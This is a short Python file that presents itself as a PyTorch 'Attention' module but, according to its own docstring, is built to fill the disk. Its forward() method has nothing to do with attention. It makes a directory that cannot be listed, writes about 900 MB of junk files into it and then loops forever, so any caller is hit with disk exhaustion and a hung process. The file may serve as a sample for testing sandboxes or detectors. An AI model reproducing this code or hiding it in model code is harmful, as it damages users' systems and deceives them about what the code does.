"""Write until the disk is full, in a folder that its owner can write to and not list."""

import os

import torch
from torch.nn import Linear, Module


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        os.mkdir("hidden", 0o300)
        for number in range(60):
            with open(f"hidden/attack-{number}", "wb") as file:
                file.write(bytes(15 * 2**20))
        while True:
            pass
